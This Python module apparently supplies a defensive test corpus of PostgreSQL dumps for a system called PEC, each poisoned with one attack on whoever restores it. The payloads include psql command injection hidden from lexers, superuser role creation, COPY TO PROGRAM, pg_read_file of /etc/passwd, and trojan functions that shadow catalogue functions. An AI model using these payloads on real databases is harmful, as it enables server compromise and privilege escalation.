# SPDX-License-Identifier: GPL-3.0-or-later
"""Plain dumps that attack whoever restores them: valid dumps of PEC but for one piece.

An attack proves that it worked by a file, PROOF, which a program of psql or of the server creates, or by the answer of a superuser's query
in the restored database (Attack.sql), which is Attack.reached after a success. `@PROOF@` in a piece is the path of the file.
"""

from __future__ import annotations

from dataclasses import dataclass

HEAD = """\
--
-- PostgreSQL database dump
--

-- Dumped from database version 15.18 (Debian 15.18-0+deb12u1)
-- Dumped by pg_dump version 15.18 (Debian 15.18-0+deb12u1)

SET statement_timeout = 0;
SET lock_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
SET check_function_bodies = false;
SET client_min_messages = warning;
SET row_security = off;

"""
SETTINGS = """\
CREATE TABLE public.tb_config_sistema (
    co_config_sistema character varying(255) NOT NULL,
    ds_config_sistema character varying(255),
    ds_texto character varying(255),
    ds_inteiro integer,
    st_disponivel_sistema integer,
    ds_binario bytea
);

COPY public.tb_config_sistema (co_config_sistema, ds_config_sistema, ds_texto, ds_inteiro) FROM stdin;
VERSAOBANCODADOS\tVersão\t5.4.37\t\\N
TREINAMENTO\tInstalação de treinamento\t\\N\t0
\\.

ALTER TABLE ONLY public.tb_config_sistema ADD CONSTRAINT tb_config_sistema_pkey PRIMARY KEY (co_config_sistema);

"""
TAIL = """\
--
-- PostgreSQL database dump complete
--

"""


@dataclass(frozen=True)
class Attack:
    """What it tries, and the piece. C(instead): the piece takes the place of the table of settings, else it comes after it."""

    tries: str
    piece: str | bytes
    sql: str = ""
    reached: str = ""
    instead: bool = False

    def dump(self, proof: str = "/tmp/proof") -> bytes:
        """Return the whole dump."""
        piece = self.piece.encode() if isinstance(self.piece, str) else self.piece
        middle = piece if self.instead else SETTINGS.encode() + piece
        return HEAD.encode() + middle.replace(b"@PROOF@", proof.encode()) + b"\n" + TAIL.encode()


GOOD = Attack("nothing: the dump that the others are made of", "")
_RUN = "\\! touch @PROOF@"
_TABLE = "CREATE TABLE public.t (a text);\n"


def _hidden(piece: str | bytes) -> Attack:
    return Attack("psql runs a command", piece)


# Each works with psql on the dump itself, and is hidden from a lexer that takes the dump for what pg_dump would have written.
COMMANDS: dict[str, Attack] = {
    "bare": _hidden(f"{_RUN}\n"),
    "indented": _hidden(f" \t {_RUN}\n"),
    "after a statement": _hidden(f"SELECT 1; {_RUN}\n"),
    "within a statement": _hidden(f"SELECT 1 + {_RUN}\n1;\n"),
    "comment that ends at CR": _hidden(f"-- a comment\r{_RUN}\n"),
    "comment of pg_dump that ends at CR": _hidden(f"--\n-- Name: x\r{_RUN}\n--\n"),
    "behind COPY on its line": _hidden(f"{_TABLE}COPY public.t FROM stdin; {_RUN}\n\\.\n"),
    "behind COPY and a quote": _hidden(f"{_TABLE}COPY public.t FROM stdin; SELECT '\n\\.\n'; {_RUN}\n"),
    "behind COPY and a comment": _hidden(f"{_TABLE}COPY public.t FROM stdin; /*\n\\.\n*/ {_RUN}\n"),
    "words of COPY in quotes": _hidden(f'COPY (SELECT 1 AS "FROM stdin") TO stdout;\n{_RUN}\n\\.\n'),
    "words of COPY in a comment": _hidden(f"COPY (SELECT 1) /* FROM stdin */ TO stdout;\n{_RUN}\n\\.\n"),
    "words of COPY in a value": _hidden(f"COPY (SELECT ' FROM stdin ') TO stdout;\n{_RUN}\n\\.\n"),
    "COPY in a block of SQL": _hidden(
        f"{_TABLE}CREATE FUNCTION public.f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1;\nCOPY public.t FROM stdin;\n{_RUN}\n\\.\n"
    ),
    "COPY in a parenthesis": _hidden(f"SELECT (1;\nCOPY public.t FROM stdin;\n{_RUN}\n\\.\n);\n"),
    "a quote in a block of SQL": _hidden(
        f"CREATE FUNCTION public.f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1;\nSET standard_conforming_strings = off;\n"
        f"SELECT 'a\\'; {_RUN}\n--';\n"
    ),
    "set_config": _hidden(f"SELECT pg_catalog.set_config('standard_conforming_strings', 'off', false);\nSELECT 'a\\''; {_RUN}\n--';\n"),
    "set_config in a DO": _hidden(
        f"DO $$ BEGIN PERFORM pg_catalog.set_config('standard_conforming_strings', 'off', false); END $$;\nSELECT 'a\\''; {_RUN}\n--';\n"
    ),
    "pg_settings": _hidden(
        f"UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings';\nSELECT 'a\\''; {_RUN}\n--';\n"
    ),
    "RESET": _hidden(f"SET standard_conforming_strings = off;\nRESET standard_conforming_strings;\nSELECT 'a\\'; {_RUN}\n--';\n"),
    "RESET ALL": _hidden(f"SET standard_conforming_strings = off;\nRESET ALL;\nSELECT 'a\\'; {_RUN}\n--';\n"),
    "DISCARD ALL": _hidden(f"SET standard_conforming_strings = off;\nDISCARD ALL;\nSELECT 'a\\'; {_RUN}\n--';\n"),
    "a setting rolled back": _hidden(f"BEGIN;\nSET standard_conforming_strings = off;\nROLLBACK;\nSELECT 'a\\'; {_RUN}\n--';\n"),
    **{
        f"SET with {form}": _hidden(f"{form};\nSELECT 'a\\''; {_RUN}\n--';\n")
        for form in (
            "SET standard_conforming_strings TO off",
            "SET SESSION standard_conforming_strings = off",
            "SET standard_conforming_strings = 0",
            "SET standard_conforming_strings = 'false'",
            "SET standard_conforming_strings = no",
            'SET "standard_conforming_strings" = off',
            "SET /**/ standard_conforming_strings = off",
        )
    },
    "dollar quote after a digit": _hidden(f"SELECT 1$a$ ' $a$ {_RUN}\n--';\n"),
    "dollar quote after a fraction": _hidden(f"SELECT 1.5$a$ ' $a$ {_RUN}\n--';\n"),
    "dollar quote after a parameter": _hidden(f"PREPARE p AS SELECT $1$a$ ' $a$ {_RUN}\n--';\n"),
    "open parenthesis": _hidden(f"SELECT (1;\n{_RUN}\n"),
    "national string": _hidden(f"SELECT N'a\\'; {_RUN}\n"),
    "unicode string": _hidden(f"SELECT U&'a!0041' UESCAPE '!'; {_RUN}\n"),
    "unicode name": _hidden(f'SELECT 1 AS U&"a\\0041"; {_RUN}\n'),
    "nested comments": _hidden(f"/* /* */ ' */ {_RUN}\n"),
    "comment in an operator": _hidden(f"SELECT 2 */* ' */ 3; {_RUN}\n--';\n"),
    "a byte 0": _hidden(f"SELECT 'a\0'\n; SELECT ' ; {_RUN}\n'".encode()),
    "a byte 0 in a comment": _hidden(f"-- \0 it's\n'\n; {_RUN}\n'\n".encode()),
    **{
        f"second byte of a letter of {encoding}": _hidden(
            b"SET client_encoding = '%s';\nSELECT E'%s'; %s\n--';\n" % (encoding.encode(), letter + b"\\", _RUN.encode())
        )
        for encoding, letter in (("SJIS", b"\x83"), ("BIG5", b"\xa5"), ("GBK", b"\x81"), ("GB18030", b"\x81"))
    },
    "SET NAMES": _hidden(b"SET NAMES 'SJIS';\nSELECT E'\x83\\'; " + _RUN.encode() + b"\n--';\n"),
    "\\connect": _hidden(f"\\connect -\n{_RUN}\n"),
    "\\copy": _hidden(f"{_TABLE}\\copy public.t FROM PROGRAM 'touch @PROOF@'\n"),
    "\\g into a program": _hidden("SELECT 1 \\g |touch @PROOF@\n"),
    "\\g into a file": _hidden("SELECT 1 \\g @PROOF@\n"),
    "\\gexec into \\g": _hidden("SELECT 'SELECT 1' \\gexec\nSELECT 1 \\g @PROOF@\n"),
    "\\gx": _hidden("SELECT 1 \\gx @PROOF@\n"),
    "\\o into a program": _hidden("\\o |touch @PROOF@\nSELECT 1;\n\\o\n"),
    "\\o into a file": _hidden("\\o @PROOF@\nSELECT 1;\n\\o\n"),
    "\\w into a program": _hidden("SELECT 1\n\\w |touch @PROOF@\n;\n"),
    "backquotes in \\set": _hidden("\\set x `touch @PROOF@`\n"),
    "backquotes in \\echo": _hidden("\\echo `touch @PROOF@`\n"),
    "backquotes in \\if": _hidden("\\if `touch @PROOF@; echo true`\n\\endif\n"),
    "backquotes behind \\restrict": _hidden("\\restrict `touch @PROOF@`\n"),
    "\\restrict and \\unrestrict": _hidden(f"\\restrict x\n\\unrestrict x\n{_RUN}\n"),
    "\\setenv and a pager": _hidden("\\setenv PSQL_PAGER 'touch @PROOF@'\n\\pset pager always\nSELECT 1;\n" + f"{_RUN}\n"),
    "\\lo_export": _hidden("SELECT pg_catalog.lo_from_bytea(7, 'x');\n\\lo_export 7 @PROOF@\n"),
    "behind \\;": _hidden(f"SELECT 1 \\; SELECT 2; {_RUN}\n"),
    "behind a variable": _hidden(f"SELECT 1 AS a \\gset\nSELECT :a, :'a'; {_RUN}\n"),
    "rows that end with \\. and CR": _hidden(f"{_TABLE}COPY public.t FROM stdin;\r\nx\r\n\\.\r\n{_RUN}\n"),
    "after the end of the dump": _hidden(f"--\n-- PostgreSQL database dump complete\n--\n{_RUN}\n"),
    "before the first statement": Attack("psql runs a command", f"{_RUN}\n{SETTINGS}", instead=True),
}

_ROLES = "SELECT count(*) FROM pg_catalog.pg_roles WHERE rolname = 'pwned'"
_SUPERUSER = "SELECT count(*) FROM pg_catalog.pg_roles WHERE rolname = 'pwned' AND rolsuper"
_DBLINK = "SELECT count(*) FROM pg_catalog.pg_extension WHERE extname = 'dblink'"


def _role(piece: str) -> Attack:
    return Attack("a role is made", piece, _ROLES, "1")


# What a dump does with the rights of the role that loads it: each works for a superuser.
RIGHTS: dict[str, Attack] = {
    "CREATE ROLE": _role("CREATE ROLE pwned SUPERUSER LOGIN PASSWORD 'x';\n"),
    "CREATE USER in a DO": _role("DO $$ BEGIN EXECUTE 'CREATE USER pwned SUPERUSER'; END $$;\n"),
    "SET ROLE NONE": _role("SET ROLE NONE;\nDO $$ BEGIN CREATE ROLE pwned; END $$;\n"),
    "SET SESSION AUTHORIZATION DEFAULT": _role("SET SESSION AUTHORIZATION DEFAULT;\nDO $$ BEGIN CREATE ROLE pwned; END $$;\n"),
    "set_config of the role": _role("SELECT pg_catalog.set_config('role', 'none', false);\nDO $$ BEGIN CREATE ROLE pwned; END $$;\n"),
    "RESET ALL and a role": _role("RESET ALL;\nDO $$ BEGIN CREATE ROLE pwned; END $$;\n"),
    "DISCARD ALL and a role": _role("DISCARD ALL;\nDO $$ BEGIN CREATE ROLE pwned; END $$;\n"),
    "COMMIT in a DO": _role("DO $$ BEGIN COMMIT; SET ROLE NONE; CREATE ROLE pwned; END $$;\n"),
    "the password of the role itself": Attack(
        "the password of the role that loads is changed",
        "DO $$ BEGIN EXECUTE pg_catalog.format('ALTER ROLE %I PASSWORD ''pwned'' VALID UNTIL ''2099-01-01''', session_user); END $$;\n",
        "SELECT count(*) FROM pg_catalog.pg_authid WHERE rolvaliduntil = '2099-01-01'",
        "1",
    ),
    "settings of every role": Attack(
        "settings of every role of the server are changed",
        "DO $$ BEGIN ALTER ROLE ALL SET application_name = 'pwned'; END $$;\n",
        "SELECT count(*) FROM pg_catalog.pg_db_role_setting WHERE 'application_name=pwned' = ANY (setconfig) AND setrole = 0",
        "1",
    ),
    "settings of another database": Attack(
        "settings of another database are changed",
        "DO $$ BEGIN ALTER DATABASE postgres SET application_name = 'pwned'; END $$;\n",
        "SELECT count(*) FROM pg_catalog.pg_db_role_setting WHERE 'application_name=pwned' = ANY (setconfig)",
        "1",
    ),
    "an extension that connects": Attack("a connection to another database", "CREATE EXTENSION dblink SCHEMA public;\n", _DBLINK, "1"),
    "an extension in a DO": Attack(
        "a connection to another database", "DO $$ BEGIN CREATE EXTENSION dblink SCHEMA public; END $$;\n", _DBLINK, "1"
    ),
    "a program of the server": Attack("the server runs a program", "DO $$ BEGIN COPY (SELECT 1) TO PROGRAM 'touch @PROOF@'; END $$;\n"),
    "a program of the server, read": Attack(
        "the server runs a program", f"{_TABLE}DO $$ BEGIN COPY public.t FROM PROGRAM 'touch @PROOF@'; END $$;\n"
    ),
    "a file of the server": Attack("the server writes a file", "DO $$ BEGIN COPY (SELECT 1) TO '@PROOF@'; END $$;\n"),
    "a large object into a file": Attack(
        "the server writes a file",
        "SELECT pg_catalog.lo_from_bytea(7, 'x');\nSELECT pg_catalog.lo_export(7, '@PROOF@');\n",
    ),
    "a file of the server is read": Attack(
        "the server reads a file into a table",
        "CREATE TABLE public.loot AS SELECT pg_catalog.pg_read_file('/etc/passwd') AS a;\n",
        "SELECT count(*) FROM pg_catalog.pg_class WHERE relname = 'loot'",
        "1",
    ),
    "a language that is not trusted": Attack(
        "the server runs a function in C",
        "CREATE FUNCTION public.pwned() RETURNS int LANGUAGE c AS '$libdir/plpgsql', 'plpgsql_call_handler';\n",
        "SELECT count(*) FROM pg_catalog.pg_proc WHERE proname = 'pwned'",
        "1",
    ),
    "an event trigger": Attack(
        "a function runs at each change by anybody",
        "CREATE FUNCTION public.e() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';\n"
        "CREATE EVENT TRIGGER pwned ON ddl_command_end EXECUTE FUNCTION public.e();\n",
        "SELECT count(*) FROM pg_catalog.pg_event_trigger WHERE evtname = 'pwned'",
        "1",
    ),
    "the catalogue": Attack(
        "a row of the catalogue is changed",
        "UPDATE pg_catalog.pg_database SET datconnlimit = 77 WHERE datname = 'template1';\n",
        "SELECT count(*) FROM pg_catalog.pg_database WHERE datconnlimit = 77",
        "1",
    ),
}

# A function of the dump, called by a superuser: it makes that role a superuser, or says so where it may not.
_TRAP = """
CREATE FUNCTION public.trap() RETURNS text LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
    COPY (SELECT 1) TO PROGRAM 'touch @PROOF@';
  END IF;
  RETURN 'x';
END $$;
"""


def _trap(piece: str, *, instead: bool = False) -> Attack:
    return Attack("a superuser who works in the restored database later runs a function of the dump", _TRAP + piece, instead=instead)


def _shadow(signature: str, returns: str, value: str) -> str:
    body = f"SELECT CASE WHEN public.trap() = 'x' THEN {value} END"
    return f"CREATE FUNCTION public.{signature} RETURNS {returns} LANGUAGE sql AS $$ {body} $$;\n"


_ROWS = "VALUES ('VERSAOBANCODADOS', 'Versão', '5.4.37', NULL), ('TREINAMENTO', '', NULL, 0)"
_RENAMED = "ALTER TABLE public.tb_config_sistema RENAME TO tb_real;\n"

# Each is valid SQL that any role may run, so that the load succeeds; the trap waits for whoever comes later.
TRAPS: dict[str, Attack] = {
    "functions of JSON": _trap(
        _shadow("to_json(boolean)", "json", "'true'::json")
        + _shadow("to_json(text)", "json", "'1'::json")
        + _shadow("to_json(varchar)", "json", "'1'::json")
        + _shadow("row_to_json(public.tb_config_sistema)", "json", "'{}'::json")
        + _shadow("json_build_object(text, bigint)", "json", "'{}'::json")
        + _shadow("json_build_array(name, text)", "json", "'[]'::json")
    ),
    "functions of the catalogue": _trap(
        _shadow("quote_ident(name)", "text", "$1::text")
        + _shadow("format(text, name, name)", "text", "$1")
        + _shadow("pg_table_size(oid)", "bigint", "1::bigint")
        + _shadow("shobj_description(oid, text)", "text", "'x'")
        + _shadow("has_database_privilege(name, text)", "boolean", "true")
        + _shadow("to_regclass(varchar)", "regclass", "NULL::regclass")
        + _shadow("current_setting(varchar)", "text", "'x'")
        + _shadow("hashtextextended(varchar, integer)", "bigint", "1::bigint")
    ),
    "operators": _trap(
        _shadow("same(varchar, text)", "boolean", "true")
        + _shadow("same(name, text)", "boolean", "true")
        + _shadow("joined(varchar, text)", "text", "$2")
        + "CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = text, FUNCTION = public.same);\n"
        "CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.same);\n"
        "CREATE OPERATOR public.<> (LEFTARG = name, RIGHTARG = text, FUNCTION = public.same);\n"
        "CREATE OPERATOR public.!~ (LEFTARG = name, RIGHTARG = text, FUNCTION = public.same);\n"
        "CREATE OPERATOR public.|| (LEFTARG = varchar, RIGHTARG = text, FUNCTION = public.joined);\n"
    ),
    "the cast of a row": _trap(
        "CREATE TABLE public.tb_trap (a int);\nINSERT INTO public.tb_trap VALUES (1);\n"
        + _shadow("row_text(public.tb_trap)", "text", "'x'")
        + "CREATE CAST (public.tb_trap AS text) WITH FUNCTION public.row_text(public.tb_trap) AS IMPLICIT;\n"
    ),
    "the cast of a column": _trap(
        "CREATE TYPE public.version AS (t text);\n"
        + _shadow("version_text(public.version)", "text", "'5.4.37'")
        + "CREATE CAST (public.version AS text) WITH FUNCTION public.version_text(public.version) AS IMPLICIT;\n"
        "CREATE TABLE public.tb_config_sistema (co_config_sistema varchar(255), ds_config_sistema varchar(255), "
        "ds_texto public.version, ds_inteiro integer);\n"
        "INSERT INTO public.tb_config_sistema VALUES ('VERSAOBANCODADOS', '', ROW('5.4.37'), NULL);\n",
        instead=True,
    ),
    "a cast to JSON": _trap(
        "CREATE TYPE public.kind AS ENUM ('5.4.37');\n"
        + _shadow("kind_json(public.kind)", "json", "'1'::json")
        + "CREATE CAST (public.kind AS json) WITH FUNCTION public.kind_json(public.kind);\n"
        "CREATE TABLE public.tb_config_sistema (co_config_sistema varchar(255), ds_config_sistema varchar(255), "
        "ds_texto public.kind, ds_inteiro integer);\n"
        "INSERT INTO public.tb_config_sistema VALUES ('VERSAOBANCODADOS', '', '5.4.37', NULL);\n",
        instead=True,
    ),
    "a domain with a check": _trap(
        "CREATE DOMAIN public.checked AS varchar(255) CHECK (public.trap() IS NOT NULL);\n"
        f"CREATE TABLE public.tb_config_sistema (co_config_sistema varchar(255), ds_config_sistema varchar(255), "
        f"ds_texto public.checked, ds_inteiro integer);\nINSERT INTO public.tb_config_sistema {_ROWS};\n",
        instead=True,
    ),
    "the settings are a view": _trap(
        f"{_RENAMED}CREATE VIEW public.tb_config_sistema AS SELECT co_config_sistema, ds_config_sistema, "
        "CASE WHEN public.trap() = 'x' THEN ds_texto END AS ds_texto, ds_inteiro FROM public.tb_real;\n"
    ),
    "the settings are a table with a rule": _trap(
        f"{_RENAMED}CREATE TABLE public.tb_config_sistema AS SELECT * FROM public.tb_real;\n"
        f"CREATE RULE r AS ON UPDATE TO public.tb_config_sistema DO ALSO SELECT public.trap();\n"
    ),
    "the settings are a view that is filled": _trap(
        f"{_RENAMED}CREATE VIEW public.shown AS SELECT public.trap() AS a, * FROM public.tb_real;\n"
        "CREATE MATERIALIZED VIEW public.tb_config_sistema AS SELECT * FROM public.shown;\n"
    ),
    "a policy on the settings": _trap(
        "ALTER TABLE public.tb_config_sistema ENABLE ROW LEVEL SECURITY;\nALTER TABLE public.tb_config_sistema FORCE ROW LEVEL SECURITY;\n"
        "CREATE POLICY p ON public.tb_config_sistema USING (public.trap() IS NOT NULL);\n"
    ),
    "an index": _trap(
        "CREATE FUNCTION public.key(int) RETURNS text LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN public.trap(); END';\n"
        "CREATE TABLE public.tb_trap (a int);\nINSERT INTO public.tb_trap SELECT pg_catalog.generate_series(1, 100);\n"
        "CREATE INDEX trap_key ON public.tb_trap (public.key(a));\n"
        "CREATE STATISTICS public.trap_statistics ON (public.key(a)) FROM public.tb_trap;\n"
    ),
    "triggers": _trap(
        "CREATE FUNCTION public.tg() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM public.trap(); RETURN NEW; END';\n"
        "CREATE TRIGGER tg BEFORE INSERT OR UPDATE ON public.tb_config_sistema FOR EACH ROW EXECUTE FUNCTION public.tg();\n"
        "ALTER TABLE public.tb_config_sistema ENABLE ALWAYS TRIGGER tg;\n"
        "ALTER TABLE public.tb_config_sistema ALTER COLUMN ds_config_sistema SET DEFAULT public.trap();\n"
    ),
    "the path of the database": _trap(
        "DO $$ BEGIN EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path TO public, pg_catalog', pg_catalog.current_database()); "
        "END $$;\n" + _shadow("current_setting(text)", "text", "'x'") + _shadow("count()", "bigint", "1::bigint")
    ),
    "the path of the role": _trap(
        "DO $$ BEGIN EXECUTE pg_catalog.format('ALTER ROLE %I SET search_path TO public, pg_catalog', current_user); END $$;\n"
        + _shadow("current_database()", "name", "'x'::name")
    ),
    "a schema of the role's name": _trap(
        "CREATE SCHEMA postgres;\nCREATE SCHEMA esus;\nCREATE FUNCTION postgres.to_json(boolean) RETURNS json LANGUAGE sql AS "
        "$$ SELECT CASE WHEN public.trap() = 'x' THEN 'true'::json END $$;\n"
    ),
    "a table of the catalogue's name": _trap(
        "CREATE VIEW public.pg_class AS SELECT c.*, public.trap() FROM pg_catalog.pg_class c;\n"
        "CREATE VIEW public.pg_roles AS SELECT r.*, public.trap() FROM pg_catalog.pg_roles r;\n"
    ),
    "names with quotes": _trap(
        'CREATE TABLE public."a\'; SELECT public.trap(); --" (a int);\n'
        'CREATE SEQUENCE public."s""; SELECT public.trap(); --";\n'
        'CREATE TABLE public."t\n\\! touch @PROOF@" (a int);\nCREATE SEQUENCE public."s\n\\! touch @PROOF@";\n'
    ),
    "rights for everybody": Attack(
        "a role that may only read, or everybody, reads or runs what PEC's role may",
        "CREATE FUNCTION public.read_all() RETURNS bigint LANGUAGE sql SECURITY DEFINER AS 'SELECT 1::bigint';\n"
        "DO $$ BEGIN GRANT ALL ON TABLE public.tb_config_sistema TO PUBLIC; END $$;\n"
        "DO $$ BEGIN ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC; END $$;\n",
        "SELECT pg_catalog.has_table_privilege('public', 'public.tb_config_sistema', 'SELECT')",
        "t",
    ),
}

PLAIN: dict[str, Attack] = {
    **{f"command: {name}": attack for name, attack in COMMANDS.items()},
    **{f"rights: {name}": attack for name, attack in RIGHTS.items()},
    **{f"trap: {name}": attack for name, attack in TRAPS.items()},
}
